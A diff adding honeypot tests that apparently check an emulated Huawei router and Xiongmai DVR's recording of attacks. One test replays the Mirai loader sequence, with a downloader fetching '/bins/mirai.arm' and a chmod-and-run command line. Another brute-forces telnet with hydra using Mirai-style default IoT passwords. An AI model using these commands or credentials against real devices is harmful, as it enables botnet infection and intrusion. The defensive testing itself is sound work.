@@ -12,6 +12,7 @@ import contextlib
 import hashlib
 import os
 import shutil
+import socket
 import subprocess
 import sys
 import tempfile
@@ -317,3 +318,121 @@ def test_wan_client_static_refused_and_timeout():
             assert not any(sent.values()), sent
         finally:
             http.shutdown()
+
+
+class DvrWanDaemon(WanDaemon):
+    """WanDaemon as the Xiongmai DVR (ARM: Mirai's dlr runs there)."""
+
+    def __init__(self, *a, **kw):
+        super().__init__(*a, **kw)
+        with open(self.conf) as f:
+            conf = f.read().replace("option persona 'huawei-hg532'",
+                                    "option persona 'xiongmai-dvr'")
+        with open(self.conf, "w") as f:
+            f.write(conf)
+
+
+def test_wan_client_mirai_loader_dlr():
+    """The Mirai loader's sequence over lwIP on the DVR: its echo-built dlr
+    (198.18.0.1:80 and the GET line in its code) runs and fetches its bot
+    over the WAN stack (MIRAI, FIN), the bot answers `listening tun0`, both
+    are stored; the kernel sent nothing."""
+    info = tt.persona_info("xiongmai-dvr")
+    user, pw, _ = info["creds"][0]
+    bot = mirai.fake_bot(40, 1)
+    dlr = mirai.fake_dlr(ip=bytes([198, 18, 0, 1]), path=b"/bins/mirai.arm", port=80)
+    with Pair() as p, dnsmasq(p):
+        with in_netns(p.att):
+            http = fetchsrv.http_server({"/bins/mirai.arm": ("file", bot)}, host=ATT, port=80)
+        try:
+            with DvrWanDaemon(p, [("proto", "dhcp")], more=fetch_lines(),
+                              main={"sync_ms": "50"}) as d:
+                ip = d.wan_address()["ipaddr"]
+                with in_netns(p.att):
+                    c = Conn(d.port, host=ip)
+                mirai.login(c, user, pw)
+                mirai.enter_shell(c)
+                ld = mirai.Loader.__new__(mirai.Loader)
+                ld.c, ld.dir, ld.arch = c, None, None
+                ld.step_ps()
+                ld.step_mounts()
+                ld.step_prepare()
+                endian, machine, arch, _, _ = ld.step_arch()
+                assert (endian, machine) == (1, 40), (endian, machine)
+                ld.upload_echo(dlr)
+                out = ld.run("/bin/busybox chmod 777 upnp; ./upnp; ./dvrHelper telnet.arm")
+                assert out.endswith(b"\nMIRAI\r\nFIN\r\nlistening tun0\r\nIHCCE: applet not found"), \
+                    out
+                assert http.hits == ["/bins/mirai.arm"], http.hits
+                ld.close()
+                sha = hashlib.sha256(bot).hexdigest()
+                evs = d.wait_events(lambda e: len(by_id(e, "tanuki.exec.emulated")) >= 2)
+                assert d.files().get(sha) == bot
+                got = [e for e in by_id(evs, "cowrie.session.file_download") if e["shasum"] == sha]
+                assert len(got) == 1 and got[0]["dst_host"] == ATT, got
+                assert got[0]["parent_shasum"] == hashlib.sha256(dlr).hexdigest(), got
+            sent = kernel_sent(p)
+            assert not any(sent.values()), sent
+        finally:
+            http.shutdown()
+
+
+def test_wan_client_hydra():
+    """hydra from the attacker namespace against the telnet served by lwIP,
+    through a recording relay there (test_hydra.py's): every pair that
+    crossed the wire is logged, nothing invented; the kernel sent nothing."""
+    import threading
+    from test_hydra import Relay, pairs_sent
+
+    class WanRelay(Relay):
+        def __init__(self, host, target):
+            self.host = host
+            super().__init__(target)
+
+        def accept(self):
+            while True:
+                try:
+                    c, _ = self.srv.accept()
+                except OSError:
+                    return
+                rec = bytearray()
+                with self.lock:
+                    self.streams.append(rec)
+                u = socket.create_connection((self.host, self.target))
+                threading.Thread(target=self.pipe, args=(c, u, rec), daemon=True).start()
+                threading.Thread(target=self.pipe, args=(u, c, None), daemon=True).start()
+
+    users = ["root", "admin", "guest"]
+    passwords = ["123456", "password", "xc3511x", "vizxv", "888888", "default"]
+    tmp = tempfile.mkdtemp(prefix="tanuki-wanhydra-")
+    for name, words in (("users", users), ("pass", passwords)):
+        with open(os.path.join(tmp, name), "w") as f:
+            f.write("\n".join(words) + "\n")
+    static = [("proto", "static"), ("ipaddr", "198.18.0.2"), ("netmask", "255.255.255.0"),
+              ("gateway", ATT)]
+    try:
+        with Pair() as p:
+            with WanDaemon(p, static, main={"max_tries": "100"}) as d:
+                d.wan_address()
+                with in_netns(p.att):
+                    relay = WanRelay("198.18.0.2", d.port)
+                r = subprocess.run(
+                    ["ip", "netns", "exec", p.att, "hydra", "-L", os.path.join(tmp, "users"),
+                     "-P", os.path.join(tmp, "pass"), "-t", "4", "-V", "-I",
+                     "telnet://127.0.0.1:%d" % relay.port],
+                    capture_output=True, text=True, timeout=300, cwd=tmp)
+                out = r.stdout + r.stderr
+                assert "1 of 1 target completed" in out, out[-2000:]
+                assert "0 valid password" in out, out[-1000:]
+                with relay.lock:
+                    sent = [pr for s in relay.streams for pr in pairs_sent(s)]
+                relay.close()
+                assert len(set(sent)) >= len(users) * len(passwords) // 2, (sent, out[-1500:])
+                evs = d.wait_events(lambda e: len(by_id(e, "cowrie.login.failed")) >= len(sent))
+                logged = [(x["username"], x["password"]) for x in by_id(evs, "cowrie.login.failed")]
+                assert sorted(logged) == sorted(sent), (sorted(logged), sorted(sent))
+                assert {x["src_ip"] for x in by_id(evs, "cowrie.session.connect")} == {ATT}
+            sent = kernel_sent(p)
+            assert not any(sent.values()), sent
+    finally:
+        shutil.rmtree(tmp, ignore_errors=True)
